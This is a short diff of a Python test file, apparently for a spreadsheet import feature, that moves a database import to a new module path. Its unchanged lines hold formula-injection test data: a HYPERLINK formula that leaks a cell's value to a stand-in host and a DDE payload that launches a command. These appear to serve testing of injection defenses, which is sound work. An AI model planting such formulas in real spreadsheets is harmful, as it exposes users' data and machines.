@@ -9,7 +9,6 @@ from pathlib import Path
 
 import openpyxl
 
-from coalitiondesk.core.db import Database
 from coalitiondesk.core.importing import (
     ImportPlan,
     initial_mapping,
@@ -19,6 +18,7 @@ from coalitiondesk.core.importing import (
     run_to_end,
     write_error_report,
 )
+from coalitiondesk.core.storage.db import Database
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
 PAYLOADS = ["=1+1", "@SUM(A1:A2)", "+cmd|' /C calc'!A0", "-2+3", "＝1+1", "#REF!"]
